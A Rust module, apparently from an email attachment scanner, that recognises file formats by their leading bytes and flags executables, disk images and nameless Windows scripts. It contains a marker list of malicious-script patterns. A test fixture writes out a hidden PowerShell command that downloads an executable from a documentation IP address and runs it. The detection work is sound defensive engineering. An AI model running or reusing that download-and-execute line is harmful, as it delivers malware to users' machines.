//! Recognises a file by its first bytes, whatever its name says.

use super::bytes::{be32, contains_ignore_case, le32, starts_ignore_case};

/// A file format recognised by its content.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Format {
    /// Windows Portable Executable: `MZ` DOS header whose `e_lfanew` points at `PE\0\0`.
    WindowsPe,
    /// Executable and Linkable Format (Linux, BSD).
    Elf,
    /// Mach-O (macOS), 32 or 64 bits, either byte order.
    MachO,
    /// Mach-O universal ("fat") binary.
    MachOFat,
    /// Java class file (`CAFEBABE` followed by a class-file version).
    JavaClass,
    /// A script starting with `#!` (shebang).
    ShebangScript,
    /// Windows shell link (.lnk), a shortcut that can run any command.
    WindowsShortcut,
    /// HTML Application: a page `mshta.exe` runs with the user's rights (`<HTA:APPLICATION>`).
    Hta,
    /// A Windows script recognised by its content (batch, Windows Script Host), for
    /// embedded files that have no name (`detect_nameless_script`).
    WindowsScript,
    /// OLE2 compound file (legacy Office documents, MSI installers, .msg).
    Ole2,
    Zip,
    Rar,
    SevenZip,
    Gzip,
    Bzip2,
    Xz,
    Zstandard,
    /// Microsoft Cabinet.
    Cab,
    /// POSIX or GNU tar.
    Tar,
    /// ISO 9660 disk image.
    Iso9660,
    /// Virtual hard disk (VHD): the `conectix` footer, copied at the start of dynamic disks.
    Vhd,
    /// Virtual hard disk v2 (VHDX): the `vhdxfile` identifier ([MS-VHDX] §2.2.1).
    Vhdx,
    /// Apple disk image (DMG): the `koly` trailer.
    AppleDiskImage,
    /// A raw disk or partition image (`.img`): a FAT, exFAT or NTFS boot sector, or a GPT header.
    FilesystemImage,
    /// OneNote section ([MS-ONESTORE] §2.3.1 header GUID); it can embed any file.
    OneNote,
    /// TNEF (`winmail.dat`, [MS-OXTNEF] §2.1.3.1 signature); it carries Outlook's attachments.
    Tnef,
    /// Rich Text Format; it can embed OLE objects (`\objdata`), files among them.
    Rtf,
    Html,
    Pdf,
    Png,
    Jpeg,
    Gif,
}

impl Format {
    /// Stable key of the format; findings show its label `attachment/format.<key>` from the catalogue.
    pub fn key(self) -> &'static str {
        match self {
            Format::WindowsPe => "windows-pe",
            Format::Elf => "elf",
            Format::MachO => "mach-o",
            Format::MachOFat => "mach-o-fat",
            Format::JavaClass => "java-class",
            Format::ShebangScript => "shebang-script",
            Format::WindowsShortcut => "windows-shortcut",
            Format::Hta => "hta",
            Format::WindowsScript => "windows-script",
            Format::Ole2 => "ole2",
            Format::Zip => "zip",
            Format::Rar => "rar",
            Format::SevenZip => "7z",
            Format::Gzip => "gzip",
            Format::Bzip2 => "bzip2",
            Format::Xz => "xz",
            Format::Zstandard => "zstd",
            Format::Cab => "cab",
            Format::Tar => "tar",
            Format::Iso9660 => "iso9660",
            Format::Vhd => "vhd",
            Format::Vhdx => "vhdx",
            Format::AppleDiskImage => "dmg",
            Format::FilesystemImage => "filesystem-image",
            Format::OneNote => "onenote",
            Format::Tnef => "tnef",
            Format::Rtf => "rtf",
            Format::Html => "html",
            Format::Pdf => "pdf",
            Format::Png => "png",
            Format::Jpeg => "jpeg",
            Format::Gif => "gif",
        }
    }

    /// Programs and scripts: they run when opened. Disk images count with them:
    /// Windows mounts them on a double click and runs what they hold without the
    /// "downloaded from the Internet" warning, which is why Gmail blocks `.iso`,
    /// `.img` and `.vhd` (data/gmail-blocked-types.txt).
    pub fn is_executable(self) -> bool {
        matches!(
            self,
            Format::WindowsPe
                | Format::Elf
                | Format::MachO
                | Format::MachOFat
                | Format::JavaClass
                | Format::ShebangScript
                | Format::WindowsShortcut
                | Format::Hta
                | Format::WindowsScript
        ) || self.is_disk_image()
    }

    pub fn is_disk_image(self) -> bool {
        matches!(self, Format::Iso9660 | Format::Vhd | Format::Vhdx | Format::AppleDiskImage | Format::FilesystemImage)
    }

    /// Compressed files and archives whose data cannot be read here (no
    /// decompressor for them). RAR, 7-Zip and cabinets list their names when
    /// their headers are plain, but their data stays unread.
    pub fn is_opaque_archive(self) -> bool {
        matches!(self, Format::Rar | Format::SevenZip | Format::Bzip2 | Format::Xz | Format::Zstandard)
    }
}

/// Bytes of an entry the inspector reads to recognise its format. The ISO 9660
/// signature sits at 32 KiB and a packed program's PE header may too: a
/// compressed entry whose first bytes point there is read that far
/// (`far_signature_end`). The VHD and DMG trailers at the end are recognised in
/// whole files only (a stored entry is one).
pub const SNIFF_BYTES: usize = 4096;

/// Offset of the ISO 9660 primary volume descriptor signature `CD001` (ECMA-119 §8.4).
const ISO9660_SIGNATURE_OFFSET: usize = 0x8001;

/// Furthest PE header (`e_lfanew`) a compressed entry is read up to (ours: 64 KiB;
/// linkers write it within the first 256 bytes, a packer that pushes it past the
/// 4 KiB read had hidden a program deflated in a ZIP).
pub const MAX_PE_HEADER_OFFSET: usize = 64 * 1024;

/// How far a compressed entry must be read for `detect` when its first
/// `SNIFF_BYTES` (`head`, the entry being longer) point past them: a DOS header
/// whose PE header lies further (up to `MAX_PE_HEADER_OFFSET`), or a first 4 KiB
/// of zeros or a boot record (0x55 0xAA at 510), as an ISO 9660 image's system
/// area (ECMA-119 §6.2.1) lies before its volume descriptor at 32 KiB. Only such
/// entries are read further: a ZIP of many ordinary files costs no more budget.
pub fn far_signature_end(head: &[u8]) -> Option<usize> {
    if head.starts_with(b"MZ") {
        let offset = le32(head, 0x3c)? as usize;
        return (offset >= 0x40 && offset.saturating_add(4) > head.len() && offset <= MAX_PE_HEADER_OFFSET)
            .then_some(offset + 4);
    }
    let system_area = head.len() >= SNIFF_BYTES && (head.iter().all(|&b| b == 0) || head.get(510..512) == Some(&[0x55, 0xaa]));
    system_area.then_some(ISO9660_SIGNATURE_OFFSET + 5)
}

/// The format of `bytes`, if it is one we recognise.
pub fn detect(bytes: &[u8]) -> Option<Format> {
    let starts = |magic: &[u8]| bytes.starts_with(magic);
    if starts(b"MZ") {
        return is_pe(bytes).then_some(Format::WindowsPe);
    }
    if starts(b"\x7fELF") && matches!(bytes.get(4), Some(1 | 2)) && matches!(bytes.get(5), Some(1 | 2)) {
        return Some(Format::Elf);
    }
    if starts(&[0xfe, 0xed, 0xfa, 0xce])
        || starts(&[0xfe, 0xed, 0xfa, 0xcf])
        || starts(&[0xce, 0xfa, 0xed, 0xfe])
        || starts(&[0xcf, 0xfa, 0xed, 0xfe])
    {
        return Some(Format::MachO);
    }
    if starts(&[0xca, 0xfe, 0xba, 0xbe]) || starts(&[0xca, 0xfe, 0xba, 0xbf]) {
        // Both Mach-O fat binaries and Java classes start with CAFEBABE. The next
        // word is the architecture count for Mach-O (a handful) and the class-file
        // version for Java (major version 45 and up, so the word is >= 45).
        let next = be32(bytes, 4)?;
        return Some(if next < 45 { Format::MachOFat } else { Format::JavaClass });
    }
    if starts(b"#!") {
        let rest = bytes.get(2..).unwrap_or(&[]);
        let rest = rest.strip_prefix(b" ").unwrap_or(rest);
        return rest.starts_with(b"/").then_some(Format::ShebangScript);
    }
    // [MS-SHLLINK] §2.1: HeaderSize 0x4C then the LinkCLSID 00021401-0000-0000-C000-000000000046.
    if starts(&[0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]) {
        return Some(Format::WindowsShortcut);
    }
    if starts(&ONENOTE_SECTION_GUID) {
        return Some(Format::OneNote);
    }
    if starts(&super::tnef::SIGNATURE) {
        return Some(Format::Tnef);
    }
    // Word opens a file whose first bytes are `{\rt` as RTF, whatever follows
    // (oletools' rtfobj documents it: droppers write `{\rtx` or `{\rt0`).
    if starts(b"{\\rt") {
        return Some(Format::Rtf);
    }
    if starts(b"vhdxfile") {
        return Some(Format::Vhdx);
    }
    if starts(b"conectix") {
        return Some(Format::Vhd);
    }
    if starts(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) {
        return Some(Format::Ole2);
    }
    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
        return Some(Format::Zip);
    }
    if starts(b"Rar!\x1a\x07") {
        return Some(Format::Rar);
    }
    if starts(&[b'7', b'z', 0xbc, 0xaf, 0x27, 0x1c]) {
        return Some(Format::SevenZip);
    }
    if starts(&[0x1f, 0x8b, 0x08]) {
        return Some(Format::Gzip);
    }
    if starts(b"BZh") && bytes.get(3).is_some_and(|d| (b'1'..=b'9').contains(d)) && bytes.get(4..10) == Some(b"1AY&SY")
    {
        return Some(Format::Bzip2);
    }
    if starts(&[0xfd, b'7', b'z', b'X', b'Z', 0]) {
        return Some(Format::Xz);
    }
    if starts(&[0x28, 0xb5, 0x2f, 0xfd]) {
        return Some(Format::Zstandard);
    }
    if starts(b"MSCF\0\0\0\0") {
        return Some(Format::Cab);
    }
    if bytes.get(257..262) == Some(b"ustar") || is_v7_tar_header(bytes) {
        return Some(Format::Tar);
    }
    if starts(b"%PDF-") {
        return Some(Format::Pdf);
    }
    if starts(b"\x89PNG\r\n\x1a\n") {
        return Some(Format::Png);
    }
    if starts(&[0xff, 0xd8, 0xff]) {
        return Some(Format::Jpeg);
    }
    if starts(b"GIF87a") || starts(b"GIF89a") {
        return Some(Format::Gif);
    }
    if bytes.get(ISO9660_SIGNATURE_OFFSET..ISO9660_SIGNATURE_OFFSET + 5) == Some(b"CD001") {
        return Some(Format::Iso9660);
    }
    if is_filesystem_image(bytes) {
        return Some(Format::FilesystemImage);
    }
    detect_markup(bytes)
}

/// `detect`, and the signatures a whole file shows at its end: the VHD footer
/// (fixed disks have no copy at the start) and the DMG `koly` trailer.
pub fn detect_whole(bytes: &[u8]) -> Option<Format> {
    detect(bytes).or_else(|| {
        let trailer = bytes.len().checked_sub(512).and_then(|at| bytes.get(at..))?;
        if trailer.starts_with(b"conectix") {
            Some(Format::Vhd)
        } else if trailer.starts_with(b"koly") {
            Some(Format::AppleDiskImage)
        } else {
            None
        }
    })
}

/// [MS-ONESTORE] §2.3.1: a OneNote revision store file starts with the file type
/// GUID {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}, stored little-endian.
pub const ONENOTE_SECTION_GUID: [u8; 16] =
    [0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3];

/// Most bytes of text searched for an HTML or HTA start tag.
const MARKUP_SNIFF_BYTES: usize = 1024;

/// HTML and HTML Applications by their first tags. An `<HTA:APPLICATION>` element
/// makes `mshta.exe` run the page as a program (Microsoft, "Introduction to HTML Applications").
fn detect_markup(bytes: &[u8]) -> Option<Format> {
    let head = &bytes[..bytes.len().min(SNIFF_BYTES)];
    if contains_ignore_case(head, b"<hta:application") {
        return Some(Format::Hta);
    }
    let start = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
    let start = &start[start.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(start.len())..];
    let start = &start[..start.len().min(MARKUP_SNIFF_BYTES)];
    let html_starts: [&[u8]; 5] = [b"<!doctype html", b"<html", b"<head", b"<body", b"<script"];
    html_starts.iter().any(|tag| starts_ignore_case(start, tag)).then_some(Format::Html)
}

/// A script without a name to tell its language (an embedded file): a batch file
/// that starts `@echo`, a Windows Script Host job, or a script that drives the
/// Windows shell objects, starts processes through WMI (`winmgmts:`, MITRE
/// ATT&CK T1047), runs PowerShell in a hidden window (`-w hidden`, T1564.003)
/// or hands a page to `mshta` (T1218.005). OneNote droppers of 2023 carried
/// such .bat, .cmd, .js, .vbs and .hta files (Proofpoint, "OneNote documents
/// increasingly used to deliver malware", February 2023).
pub fn detect_nameless_script(bytes: &[u8]) -> Option<Format> {
    let head = &bytes[..bytes.len().min(SNIFF_BYTES)];
    let trimmed = &head[head.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(head.len())..];
    let markers: [&[u8]; 7] = [
        b"wscript.shell",
        b"shell.application",
        b"powershell -e",
        b"winmgmts:",
        b"-w hidden",
        b"-windowstyle hidden",
        b"mshta ",
    ];
    let script = starts_ignore_case(trimmed, b"@echo")
        || starts_ignore_case(trimmed, b"<job")
        || starts_ignore_case(trimmed, b"<package")
        || markers.iter().any(|m| contains_ignore_case(head, m));
    script.then_some(Format::WindowsScript)
}

/// A tar header without the ustar magic (Unix V7 tar): its checksum field holds
/// the sum of the header's bytes with the field itself counted as spaces.
fn is_v7_tar_header(bytes: &[u8]) -> bool {
    let Some(header) = bytes.get(..512) else { return false };
    if header[0] == 0 {
        return false;
    }
    let field: String = header[148..156].iter().take_while(|&&b| b != 0 && b != b' ').map(|&b| char::from(b)).collect();
    let Ok(stored) = u32::from_str_radix(field.trim_start(), 8) else { return false };
    let sum: u32 =
        header.iter().enumerate().map(|(i, &b)| if (148..156).contains(&i) { 32 } else { u32::from(b) }).sum();
    stored == sum
}

/// A boot sector (signature 0x55AA at 510) naming its file system, or a GPT
/// header (`EFI PART` at 512): the content of a raw `.img` disk image.
fn is_filesystem_image(bytes: &[u8]) -> bool {
    if bytes.get(512..520) == Some(b"EFI PART") {
        return true;
    }
    if bytes.get(510..512) != Some(&[0x55, 0xaa]) {
        return false;
    }
    let at = |range: std::ops::Range<usize>, text: &[u8]| bytes.get(range).is_some_and(|b| b.starts_with(text));
    at(3..11, b"NTFS    ") || at(3..11, b"EXFAT   ") || at(54..62, b"FAT1") || at(82..90, b"FAT32")
}

/// `MZ` alone is two printable letters; a Portable Executable also has `PE\0\0`
/// at the offset stored at 0x3C (PE/COFF specification §2 and §3).
fn is_pe(bytes: &[u8]) -> bool {
    let Some(offset) = le32(bytes, 0x3c) else { return false };
    let offset = offset as usize;
    offset >= 0x40 && bytes.get(offset..offset.saturating_add(4)) == Some(b"PE\0\0")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mz_without_a_pe_header_is_not_an_executable() {
        assert_eq!(detect(b"MZ is how this text starts"), None);
        let mut pe = vec![0u8; 0x90];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        assert_eq!(detect(&pe), Some(Format::WindowsPe));
    }

    #[test]
    fn cafebabe_is_told_apart() {
        assert_eq!(detect(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), Some(Format::MachOFat));
        assert_eq!(detect(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), Some(Format::JavaClass));
    }

    #[test]
    fn nameless_scripts_are_told_by_what_they_run() {
        let batch = b"cmd /c start /min powershell -w hidden -c \"iwr http://198.51.100.7/a -o a.exe; start a.exe\"";
        let wmi = b"GetObject(\"winmgmts:\\\\.\\root\\cimv2\").Get(\"Win32_Process\").Create(\"calc\")";
        let hta = b"<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>";
        for script in [&batch[..], &wmi[..], &hta[..]] {
            assert_eq!(detect_nameless_script(script), Some(Format::WindowsScript));
        }
        assert_eq!(detect_nameless_script(b"Meeting notes: hidden costs, windows, shell."), None);
    }

    #[test]
    fn shebang_needs_an_interpreter_path() {
        assert_eq!(detect(b"#!/bin/sh\necho hi\n"), Some(Format::ShebangScript));
        assert_eq!(detect(b"#! /usr/bin/env python\n"), Some(Format::ShebangScript));
        assert_eq!(detect(b"#!important note"), None);
    }
}
